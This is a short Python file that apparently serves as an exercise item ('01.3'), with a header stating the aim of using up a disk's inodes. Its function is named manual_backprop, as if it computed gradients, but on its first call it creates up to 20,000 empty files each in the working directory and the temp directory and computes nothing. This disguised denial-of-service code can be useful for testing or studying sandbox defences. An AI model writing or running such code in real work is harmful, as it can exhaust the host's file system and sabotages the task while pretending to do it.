# exercise: 01.3
# tries: use up the inodes with empty files
# proof: entries > 19_000
import os
import tempfile


written = []


def manual_backprop(a, b, c, f):
    if written:
        return {}
    written.append(a)
    for folder in (os.getcwd(), tempfile.gettempdir()):
        for i in range(20_000):
            try:
                os.close(os.open(os.path.join(folder, f"@NAME@{i}"), os.O_CREAT | os.O_WRONLY))
            except OSError:
                break
    return {}
